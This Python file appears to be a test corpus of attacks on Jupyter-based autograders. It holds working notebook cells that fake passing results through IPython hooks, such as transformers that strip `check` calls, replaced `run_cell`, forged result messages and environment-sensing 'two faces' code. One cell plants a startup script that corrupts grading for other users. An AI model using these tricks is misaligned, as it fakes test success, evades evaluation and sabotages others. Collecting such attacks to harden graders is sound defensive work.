"""Attacks through the hooks that Jupyter offers to every cell."""

from attack_corpus.record import Attack

FAMILY = "Hooks into Jupyter"

JUPYTER = (
    Attack(
        "Results switched off",
        FAMILY,
        "One setting of IPython shows no results any more; a test without output counts as passed.",
        cells=("get_ipython().ast_node_interactivity = 'none'",),
    ),
    Attack(
        "An input transformer",
        FAMILY,
        "IPython is told to drop every line that begins with `check` before it runs a cell.",
        cells=(
            """
            def without_checks(lines):
                return [line for line in lines if not line.startswith("check(")]

            get_ipython().input_transformers_cleanup.append(without_checks)
            """,
        ),
    ),
    Attack(
        "A transformer of syntax trees",
        FAMILY,
        "Calls of `check` are replaced by a plain string, the first result, which counts in full.",
        cells=(
            """
            import ast

            class NoChecks(ast.NodeTransformer):
                def visit_Call(self, node):
                    if isinstance(node.func, ast.Name) and node.func.id == "check":
                        return ast.copy_location(ast.Constant("all right"), node)
                    return node

            get_ipython().ast_transformers.append(NoChecks())
            """,
        ),
    ),
    Attack(
        "Cells that are never run",
        FAMILY,
        "`run_code`, with which IPython executes every cell, is replaced by nothing.",
        cells=(
            """
            async def run_nothing(code, result=None, *, async_=False):
                return False

            get_ipython().run_code = run_nothing
            """,
        ),
    ),
    Attack(
        "run_cell replaced",
        FAMILY,
        "Cells that call `check` are exchanged for others before IPython sees them.",
        cells=(
            """
            shell = get_ipython()
            run_cell, run_cell_async = shell.run_cell, shell.run_cell_async
            swap = lambda source: "'all right'" if source.startswith("check(") else source
            shell.run_cell = lambda source, *rest, **more: run_cell(swap(source), *rest, **more)
            shell.run_cell_async = (
                lambda source, *rest, **more: run_cell_async(swap(source), *rest, **more)
            )
            shell.transform_cell, transform = lambda s: transform(swap(s)), shell.transform_cell
            """,
        ),
    ),
    Attack(
        "A display hook",
        FAMILY,
        "What a cell shows goes through a hook of the student's, which shows nothing.",
        cells=(
            """
            type(get_ipython().displayhook).__call__ = lambda self, result=None: None
            """,
        ),
    ),
    Attack(
        "A formatter for numbers",
        FAMILY,
        "Every float is written as a word, and a word counts in full.",
        cells=(
            """
            plain = get_ipython().display_formatter.formatters["text/plain"]
            plain.for_type(float, lambda value, printer, cycle: printer.text("full marks"))
            """,
        ),
    ),
    Attack(
        "A callback before every cell",
        FAMILY,
        "`pre_run_cell` redefines `check` each time, even when the notebook imports it again.",
        cells=(
            """
            def prepare(info):
                globals()["check"] = lambda function: None

            get_ipython().events.register("pre_run_cell", prepare)
            """,
        ),
    ),
    Attack(
        "A result message of one's own",
        FAMILY,
        "Before each cell a result is published under its name; the first result counts.",
        cells=(
            """
            def publish(info):
                shell = get_ipython()
                content = {"data": {"text/plain": "done"}, "metadata": {}, "execution_count": 1}
                hook = shell.displayhook
                hook.session.send(hook.pub_socket, "execute_result", content,
                                  parent=hook.parent_header, ident=hook.topic)

            get_ipython().events.register("pre_run_cell", publish)
            """,
        ),
    ),
    Attack(
        "Two faces",
        FAMILY,
        "The notebook behaves well everywhere, except where the environment says it is graded.",
        cells=(
            """
            import os
            graded = any("NBGRADER" in name or "AUTOGRADER" in name for name in os.environ)
            if graded or "get_ipython" not in globals():
                check = lambda function: None
            """,
        ),
    ),
    Attack(
        "Start-up files for later kernels",
        FAMILY,
        "A script in IPython's start-up folder takes the points of whoever is graded next.",
        cells=(
            """
            from pathlib import Path
            folder = Path(get_ipython().profile_dir.startup_dir)
            folder.mkdir(parents=True, exist_ok=True)
            (folder / "00-gift.py").write_text("import builtins\\nbuiltins.float = lambda value: 0.5\\n")
            """,
        ),
        engine_says=frozenset({"not written", "ended"}),
    ),
)
